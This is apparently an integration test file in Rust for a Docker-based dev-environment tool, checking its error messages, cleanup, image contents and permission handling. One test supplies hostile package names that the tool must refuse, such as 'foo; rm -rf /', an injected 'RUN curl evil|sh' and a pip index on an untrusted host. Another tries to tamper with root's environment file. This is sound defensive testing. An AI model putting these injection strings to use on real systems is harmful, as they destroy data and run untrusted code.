//! How `ptenv up` fails, against the real engine (issue #5, items 1, 2, 3 and 6): a daemon that
//! is not there, an image that does not exist, a registry that does not answer, a GPU request
//! the daemon cannot serve, a taken port, the memlock limit this engine refuses, Ctrl-C during a
//! pull. Each failure is one paragraph with a hint, a non-zero exit, and nothing left behind.
//! Also: pull progress, and what the derived image contains (and must not contain).

use std::io::Read;
use std::net::TcpListener;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::lifecycle::{only_container, shell_project, warm};
use crate::support::{docker, docker_inspect, docker_ok, Project, Testbed};

/// Every failure leaves the project without containers.
#[track_caller]
fn nothing_left(p: &Project) {
    assert!(
        p.containers().is_empty(),
        "containers left behind: {:?}",
        p.containers()
    );
}

#[test]
fn a_daemon_that_is_not_there_is_named_with_the_fix() {
    let p = shell_project("engine-no-daemon", "");
    let out = p
        .ptenv(&["up", "--detach"])
        .env("DOCKER_HOST", "unix:///tmp/ptenv-no-such-docker.sock")
        .run();
    out.assert_exit(1);
    assert!(
        out.stderr
            .contains("cannot reach the Docker daemon at unix:///tmp/ptenv-no-such-docker.sock"),
        "{out}"
    );
    assert!(out.stderr.contains("hint: start the daemon"), "{out}");
    assert!(out.stderr.contains("ptenv doctor"), "{out}");
    // A socket file nobody listens on, and a TCP port nobody listens on.
    let dir = tempfile::tempdir().unwrap();
    let dead = dir.path().join("dead.sock");
    drop(std::os::unix::net::UnixListener::bind(&dead).unwrap());
    let out = p
        .ptenv(&["ls"])
        .env("DOCKER_HOST", format!("unix://{}", dead.display()))
        .run();
    out.assert_exit(1);
    assert!(
        out.stderr.contains("cannot reach the Docker daemon"),
        "{out}"
    );
    let out = p
        .ptenv(&["down"])
        .env("DOCKER_HOST", "tcp://127.0.0.1:1")
        .run();
    out.assert_exit(1);
    assert!(
        out.stderr
            .contains("cannot reach the Docker daemon at tcp://127.0.0.1:1"),
        "{out}"
    );
}

#[test]
fn an_image_that_does_not_exist_is_a_clear_error() {
    let tb = Testbed::get();
    let p = shell_project("engine-no-image", "");
    p.write(
        "ptenv.yaml",
        &format!(
            "default: shell\ngpus: none\nrepository: {}/ptenv-fixture/no-such-image\n",
            tb.registry()
        ),
    );
    let out = p.ptenv(&["up", "--detach"]).run();
    out.assert_exit(1);
    assert!(out.stderr.contains("ptenv: cannot pull"), "{out}");
    assert!(
        out.stderr.contains("hint: check the image name and tag"),
        "{out}"
    );
    nothing_left(&p);
}

#[test]
fn a_registry_that_does_not_answer_is_a_clear_error() {
    let p = shell_project("engine-no-registry", "");
    p.write(
        "ptenv.yaml",
        "default: shell\ngpus: none\nrepository: 127.0.0.1:5999/ptenv-fixture/pytorch\n",
    );
    let out = p.ptenv(&["up", "--detach"]).run();
    out.assert_exit(1);
    assert!(
        out.stderr
            .contains("the registry 127.0.0.1:5999 does not answer"),
        "{out}"
    );
    assert!(out.stderr.contains("--pull never"), "{out}");
    nothing_left(&p);
    // `pull: never` with an absent image says so without asking the registry.
    let out = p.ptenv(&["up", "--detach", "--pull", "never"]).run();
    out.assert_exit(1);
    assert!(out.stderr.contains("`pull: never`"), "{out}");
}

#[test]
fn a_gpu_request_without_the_nvidia_runtime_leaves_nothing_and_says_what_to_install() {
    warm();
    let p = shell_project("engine-gpu", "");
    p.write(
        "ptenv.yaml",
        &format!(
            "default: shell\nrepository: {}\ngpus: all\n",
            Testbed::get().small_repo
        ),
    );
    let scenario = p.gpu_scenario(crate::support::gpus::RTX_A5000);
    let out = p.ptenv(&["up", "--detach"]).fake_gpus(&scenario).run();
    out.assert_exit(1);
    assert!(
        out.stderr.contains("could not select device driver"),
        "{out}"
    );
    assert!(out.stderr.contains("NVIDIA Container Toolkit"), "{out}");
    assert!(out.stderr.contains("ptenv doctor"), "{out}");
    nothing_left(&p);
}

#[test]
fn a_taken_port_moves_to_the_next_free_one_and_is_recorded() {
    warm();
    // A container port without a host port: ptenv chooses the host port, starting at the
    // same number. Held by another program, it moves.
    let held = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = held.local_addr().unwrap().port();
    let p = shell_project("engine-port", &format!("ports: [{port}]\n"));
    let out = p.ptenv(&["up", "--detach"]).run();
    out.assert_success();
    assert!(
        out.stderr.contains(&format!("127.0.0.1:{port} is taken")),
        "{out}"
    );
    let c = only_container(&p);
    let binding = &c["HostConfig"]["PortBindings"][format!("{port}/tcp")][0];
    assert_eq!(binding["HostIp"], "127.0.0.1");
    let used: u16 = binding["HostPort"].as_str().unwrap().parse().unwrap();
    assert!(used > port, "{used} should be above the taken {port}");
    assert_eq!(
        c["Config"]["Labels"]["dev.ptenv.ports"],
        format!("127.0.0.1:{used}->{port}/tcp")
    );
    // The next `up` reuses it on its moved port; `ls` shows that port.
    let again = p.ptenv(&["up", "--detach"]).run();
    again.assert_success();
    assert!(again.stderr.contains("reusing"), "{again}");
    let ls = p.ptenv(&["ls"]).run();
    assert!(
        ls.stdout.contains(&format!("127.0.0.1:{used}->{port}")),
        "{ls}"
    );
}

#[test]
fn memlock_is_unlimited_or_the_cap_is_recorded_and_said() {
    warm();
    let p = shell_project("engine-memlock", "profiles: {second: {mode: shell}}\n");
    let out = p.ptenv(&["up", "--detach"]).run();
    out.assert_success();
    let c = only_container(&p);
    // What the engine itself answers to `docker run --ulimit memlock=-1`: ptenv must cap the
    // limit exactly when the engine refuses it.
    let refused = docker_refuses_unlimited_memlock();
    assert_eq!(
        c["Config"]["Labels"]
            .get("dev.ptenv.memlock-capped")
            .is_some(),
        refused,
        "docker run --ulimit memlock=-1 {} here:\n{out}",
        if refused { "fails" } else { "works" }
    );
    let names: Vec<&str> = c["HostConfig"]["Ulimits"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| u["Name"].as_str().unwrap())
        .collect();
    assert!(names.contains(&"stack"), "{names:?}");
    match c["Config"]["Labels"].get("dev.ptenv.memlock-capped") {
        // This engine refuses memlock=-1 (as on the test machine): started without it, said
        // once, recorded for doctor.
        Some(_) => {
            assert!(!names.contains(&"memlock"), "{names:?}");
            assert_eq!(
                out.stderr.matches("locked-memory limit").count(),
                1,
                "{out}"
            );
            // Once per engine: the next container is capped without a word (-v says why).
            let next = p.ptenv(&["up", "second", "--detach"]).run();
            next.assert_success();
            assert!(!next.stderr.contains("locked-memory limit"), "{next}");
            let ids = p.containers();
            assert_eq!(ids.len(), 2, "{ids:?}");
            for id in ids {
                let labels = &docker_inspect(&id)["Config"]["Labels"];
                assert!(labels.get("dev.ptenv.memlock-capped").is_some(), "{labels}");
            }
        }
        // An engine that may raise it gets exactly what docker run would set.
        None => {
            let memlock = c["HostConfig"]["Ulimits"]
                .as_array()
                .unwrap()
                .iter()
                .find(|u| u["Name"] == "memlock")
                .expect("memlock is set");
            assert_eq!(memlock["Soft"], -1);
            assert_eq!(memlock["Hard"], -1);
        }
    }
}

/// Whether this engine refuses to start a container with `--ulimit memlock=-1` ("error
/// setting rlimit type 8", as rootless and locked-down engines do), asked with the docker CLI.
fn docker_refuses_unlimited_memlock() -> bool {
    let name = format!("ptenv-test-memlock-probe-{}", std::process::id());
    let image = &Testbed::get().small_image;
    let out = docker(&[
        "run",
        "--name",
        &name,
        "--ulimit",
        "memlock=-1",
        image,
        "true",
    ]);
    let _ = docker(&["rm", "-f", &name]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        out.status.success() || stderr.contains("rlimit"),
        "docker run --ulimit memlock=-1 failed for another reason: {stderr}"
    );
    !out.status.success()
}

/// Push a small image of its own to the local registry (a layer of random bytes, so the
/// engine must download it) and remove it locally; returns its repository.
fn fresh_repo(name: &str, megabytes: u32) -> String {
    let repo = format!("{}/ptenv-test-{name}/pytorch", Testbed::get().registry());
    crate::support::push_random_image(&repo, name, megabytes)
}

#[test]
fn a_pull_shows_its_layers_and_size_when_not_on_a_terminal() {
    let repo = fresh_repo("pull-progress", 8);
    let p = shell_project("engine-pull", "");
    p.write(
        "ptenv.yaml",
        &format!("default: shell\ngpus: none\nrepository: {repo}\n"),
    );
    let base = format!("{repo}:2.6.0-cuda12.4-cudnn9-runtime");
    p.track_image(&base);
    // What the registry says, read by docker's own CLI: the base's layer is here already (the
    // test bed's small image), the random one is not.
    let manifest: serde_json::Value =
        serde_json::from_str(&docker_ok(&["manifest", "inspect", "--insecure", &base])).unwrap();
    let layers = manifest["layers"].as_array().unwrap();
    let new_layer = layers.last().unwrap();
    let new_bytes = new_layer["size"].as_u64().unwrap();
    let short_id = &new_layer["digest"].as_str().unwrap()["sha256:".len()..][..12];
    let out = p.ptenv(&["up", "--detach"]).run();
    out.assert_success();
    // Before the pull: the size of what is missing, and what is here already.
    let said = format!(
        "Pulling {base} (not on this machine yet): {} to download in 1 of {} layers for linux/amd64 (",
        ptenv::size::human(new_bytes),
        layers.len()
    );
    assert!(out.stderr.contains(&said), "expected {said:?}\n{out}");
    let before = out.stderr.find(&said).unwrap();
    let first_event = out.stderr.find(": Pull complete").unwrap();
    assert!(
        before < first_event,
        "the size comes before the pull: {out}"
    );
    // The engine's progress names the layer the registry described.
    assert!(
        out.stderr.contains(&format!("{short_id}: Pull complete")),
        "{out}"
    );
    assert!(out.stderr.contains(": Already exists"), "{out}");
    assert!(
        out.stderr.contains(&format!(
            "Pulled {base} ({} downloaded)",
            ptenv::size::human(new_bytes)
        )),
        "{out}"
    );
    let derived = only_container(&p)["Config"]["Image"]
        .as_str()
        .unwrap()
        .to_string();
    p.track_image(&derived);
    // With --quiet there is no progress at all. (Untagging the base keeps its layers and the
    // derived image: the pull is quick and nothing is built again.)
    p.ptenv(&["down"]).run().assert_success();
    docker_ok(&["rmi", &base]);
    let quiet = p.ptenv(&["up", "--detach", "--quiet"]).run();
    quiet.assert_success();
    assert!(!quiet.stderr.contains("Pull"), "{quiet}");
    assert!(!quiet.stderr.contains("Building"), "{quiet}");
}

#[test]
fn ctrl_c_during_a_pull_exits_130_and_creates_nothing() {
    let repo = fresh_repo("interrupt", 400);
    let p = shell_project("engine-interrupt", "");
    p.write(
        "ptenv.yaml",
        &format!("default: shell\ngpus: none\nrepository: {repo}\n"),
    );
    p.track_image(&format!("{repo}:2.6.0-cuda12.4-cudnn9-runtime"));
    let mut child = Command::new(env!("CARGO_BIN_EXE_ptenv"))
        .args(["up", "--detach"])
        .current_dir(p.path())
        .env("HOME", p.home())
        .env("XDG_CONFIG_HOME", p.config_dir())
        .env("XDG_DATA_HOME", p.data_dir())
        .env("XDG_CACHE_HOME", p.cache_dir())
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Wait for the pull to begin, then press Ctrl-C.
    let mut stderr = child.stderr.take().unwrap();
    let mut seen = Vec::new();
    let start = Instant::now();
    while !String::from_utf8_lossy(&seen).contains("Pulling") {
        let mut buf = [0u8; 256];
        let n = stderr.read(&mut buf).unwrap();
        assert!(
            n > 0,
            "ptenv ended before pulling: {}",
            String::from_utf8_lossy(&seen)
        );
        seen.extend_from_slice(&buf[..n]);
        assert!(start.elapsed() < Duration::from_secs(60), "no pull began");
    }
    crate::support::send_sigint(child.id());
    let mut rest = String::new();
    stderr.read_to_string(&mut rest).unwrap();
    let status = child.wait().unwrap();
    let all = format!("{}{rest}", String::from_utf8_lossy(&seen));
    assert_eq!(status.code(), Some(130), "{all}");
    assert!(all.contains("ptenv: interrupted"), "{all}");
    nothing_left(&p);
}

#[test]
fn the_derived_image_has_the_user_and_packages_and_no_trace_of_the_network_settings() {
    let p = shell_project("engine-derived", "packages: {apt: [tree]}\n");
    // A CA bundle with one certificate the image does not have.
    let dir = tempfile::tempdir().unwrap();
    let ca = dir.path().join("corp-ca.pem");
    let made = Command::new("openssl")
        .args([
            "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
        ])
        .args([
            "-subj",
            "/CN=ptenv-test-corporate-root",
            "-keyout",
            "/dev/null",
            "-out",
        ])
        .arg(&ca)
        .output()
        .expect("run openssl");
    assert!(made.status.success(), "openssl: {made:?}");
    let pem = std::fs::read_to_string(&ca).unwrap();
    let body_line = pem.lines().nth(1).unwrap().to_string();
    let out = p
        .ptenv(&["up", "--detach"])
        .env("SSL_CERT_FILE", &ca)
        .env("NO_PROXY", "proxy-marker.example.invalid")
        .run();
    out.assert_success();
    let c = only_container(&p);
    let image = c["Config"]["Image"].as_str().unwrap().to_string();
    p.track_image(&image);
    let inspect = docker_inspect(&image);
    let user = inspect["Config"]["User"].as_str().unwrap_or("");
    assert!(
        user.is_empty() || user == "root",
        "the image's user stays root: {user}"
    );
    // The tools and the user are there.
    let check = p
        .ptenv(&[
            "exec",
            "--",
            "sh",
            "-c",
            "command -v tree && id -un && sudo -n true && echo ok",
        ])
        .run();
    check.assert_success();
    assert!(check.stdout.ends_with("dev\nok\n"), "{check}");
    // Neither the CA nor the proxy setting is in the image's files or history.
    let history = docker_ok(&["history", "--no-trunc", &image]);
    assert!(!history.contains("proxy-marker"), "{history}");
    let fs = docker(&[
        "run",
        "--rm",
        "--entrypoint",
        "sh",
        &image,
        "-c",
        "ls /tmp/ptenv-ca.pem 2>&1; grep -rlsF \"$0\" /etc /tmp /root /home || echo clean",
        &body_line,
    ]);
    let fs_out = String::from_utf8_lossy(&fs.stdout);
    assert!(fs_out.contains("No such file"), "{fs_out}");
    assert!(fs_out.trim_end().ends_with("clean"), "{fs_out}");
    // Root's environment file holds the image's environment, none of the build's args.
    let env_file = docker_ok(&[
        "run",
        "--rm",
        "--entrypoint",
        "cat",
        &image,
        "/etc/ptenv/environment",
    ]);
    assert!(env_file.contains("/opt/conda/bin"), "{env_file}");
    for secret in ["proxy-marker", "PTENV_CA", "BEGIN CERTIFICATE", "PIP_CERT"] {
        assert!(!env_file.contains(secret), "{secret} in {env_file}");
    }
    // A second `up` finds the image and builds nothing.
    p.ptenv(&["down"]).run().assert_success();
    let again = p.ptenv(&["up", "--detach"]).env("SSL_CERT_FILE", &ca).run();
    again.assert_success();
    assert!(!again.stderr.contains("Building"), "{again}");
}

#[test]
fn a_socket_without_permission_says_to_join_the_docker_group() {
    // The tests run as root, who may use any socket; `nobody` may not use the 0660 root:docker
    // socket. The folders must be readable for nobody.
    let p = Project::new("engine-no-permission");
    let out = p.ptenv_as_nobody(&["ls"]).run();
    out.assert_exit(1);
    assert!(
        out.stderr
            .contains("permission denied on the Docker socket"),
        "{out}"
    );
    assert!(out.stderr.contains("hint: join the docker group"), "{out}");
}

#[test]
fn a_failed_build_shows_its_last_lines_and_leaves_nothing() {
    let p = shell_project(
        "engine-bad-build",
        "packages: {apt: [ptenv-no-such-package]}\n",
    );
    let out = p.ptenv(&["up", "--detach"]).run();
    out.assert_exit(1);
    assert!(out.stderr.contains("building the derived image"), "{out}");
    assert!(out.stderr.contains("last lines of the build"), "{out}");
    assert!(
        out.stderr
            .contains("Unable to locate package ptenv-no-such-package"),
        "{out}"
    );
    assert!(
        out.stderr.contains("hint: check the profile's `packages`"),
        "{out}"
    );
    nothing_left(&p);
}

#[test]
fn a_hostile_package_name_is_refused_before_any_build() {
    for (i, packages) in [
        "{apt: [\"--allow-unauthenticated\"]}",
        "{apt: [git, \"foo; rm -rf /\"]}",
        "{pip: [\"a\\nRUN curl evil|sh\"]}",
        "{pip: [\"-e git+https://evil.example/x.git\"]}",
        "{pip: [\"--index-url=http://evil\"]}",
    ]
    .iter()
    .enumerate()
    {
        let p = shell_project(
            &format!("engine-hostile-{i}"),
            &format!("packages: {packages}\n"),
        );
        for args in [&["up", "--dry-run"][..], &["up", "--detach"][..]] {
            let out = p.ptenv(args).run();
            out.assert_exit(1);
            let file = p.path().join("ptenv.yaml");
            assert!(
                out.stderr.contains(&format!("ptenv: {}:", file.display())),
                "{out}"
            );
            assert!(out.stderr.contains("is not a"), "{out}");
            assert!(!out.stderr.contains("Building"), "{out}");
            assert!(!out.stdout.contains("FROM"), "{out}");
        }
        nothing_left(&p);
    }
}

#[test]
fn sudo_false_leaves_no_sudo_and_root_s_environment_file_is_not_the_user_s() {
    let p = shell_project("engine-no-sudo", "sudo: false\n");
    p.ptenv(&["up", "--detach"]).run().assert_success();
    let c = only_container(&p);
    let id = c["Id"].as_str().unwrap().to_string();
    p.track_image(c["Config"]["Image"].as_str().unwrap());
    let exec = |args: &[&str]| p.ptenv(&[&["exec", "--"][..], args].concat()).run();
    let who = exec(&["id", "-un"]);
    who.assert_success();
    assert_eq!(who.stdout, "dev\n", "{who}");
    let sudo = exec(&["sudo", "-n", "true"]);
    assert_ne!(sudo.status, 0, "sudo: false, yet sudo works: {sudo}");

    // The file root's login shells read belongs to root and the user cannot change it.
    let root_file = docker_ok(&[
        "exec",
        &id,
        "stat",
        "-c",
        "%u %g %a",
        "/etc/ptenv/environment",
    ]);
    assert_eq!(root_file, "0 0 644");
    let write = exec(&[
        "sh",
        "-c",
        "echo 'export PTENV_PWNED=1' >> /etc/ptenv/environment",
    ]);
    assert_ne!(write.status, 0, "{write}");
    // What the user writes into their own file stays theirs: root's login shell never reads it.
    exec(&["sh", "-c", "for f in /etc/ptenv/*environment*; do [ -w \"$f\" ] && echo 'export PTENV_PWNED=1' >> \"$f\"; done; true"])
        .assert_success();
    let root_login = docker_ok(&[
        "exec",
        "-u",
        "0",
        &id,
        "sh",
        "-lc",
        "echo ${PTENV_PWNED:-clean}",
    ]);
    assert_eq!(root_login, "clean");
    // Root's login shells get the image's environment from root's own file.
    let root_path = docker_ok(&["exec", "-u", "0", &id, "sh", "-lc", "echo $PATH"]);
    assert!(root_path.contains("/opt/conda/bin"), "{root_path}");
    // The user's login shells still get the container's environment back.
    let path = exec(&["sh", "-lc", "echo $PATH"]);
    path.assert_success();
    assert!(path.stdout.contains("/opt/conda/bin"), "{path}");
}

/// A base image that has a `dev` user and group with other IDs (a team's image, or one ptenv
/// derived for another user): the derived image gives them the host user's IDs.
#[test]
fn a_base_image_with_the_user_s_name_under_other_ids_still_derives() {
    let tb = Testbed::get();
    let base = format!(
        "ptenv-test-devuser-{}/pytorch:2.6.0-cuda12.4-cudnn9-runtime",
        std::process::id()
    );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("Dockerfile"),
        format!(
            "FROM {}\nRUN groupadd -g 4321 dev && useradd -m -u 4321 -g 4321 -s /bin/sh dev\n",
            tb.small_image
        ),
    )
    .unwrap();
    docker_ok(&["build", "-q", "-t", &base, dir.path().to_str().unwrap()]);
    let p = Project::new("engine-devuser");
    p.track_image(&base);
    p.write(
        "ptenv.yaml",
        &format!("default: shell\nimage: {base}\npull: never\ngpus: none\n"),
    );
    // As root the container user takes the folder owner's IDs; as a user, the user's own.
    let (uid, gid) = if rustix::process::getuid().as_raw() == 0 {
        std::os::unix::fs::chown(p.path(), Some(1000), Some(1000)).unwrap();
        (1000, 1000)
    } else {
        (
            rustix::process::getuid().as_raw(),
            rustix::process::getgid().as_raw(),
        )
    };
    p.ptenv(&["up", "--detach"]).run().assert_success();
    let out = p
        .ptenv(&[
            "exec",
            "--",
            "sh",
            "-c",
            "id -u; id -g; id -un; echo $HOME; touch /workspace/made",
        ])
        .run();
    out.assert_success();
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(
        lines[..3],
        [uid.to_string(), gid.to_string(), "dev".to_string()],
        "{out}"
    );
    assert_eq!(lines[3], "/home/dev", "{out}");
    use std::os::unix::fs::MetadataExt;
    assert_eq!(std::fs::metadata(p.path().join("made")).unwrap().uid(), uid);
}
